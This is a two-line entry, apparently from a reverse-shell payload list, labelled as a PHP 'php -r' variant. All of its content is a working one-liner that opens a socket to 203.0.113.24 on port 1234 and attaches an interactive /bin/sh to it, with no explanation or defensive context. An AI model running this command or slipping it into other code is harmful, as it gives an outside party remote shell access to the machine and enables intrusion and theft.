# class: reverse shell; style: php -r
php -r '$s=fsockopen("203.0.113.24",1234);$p=proc_open("/bin/sh -i",array(0=>$s,1=>$s,2=>$s),$pipes);proc_close($p);'
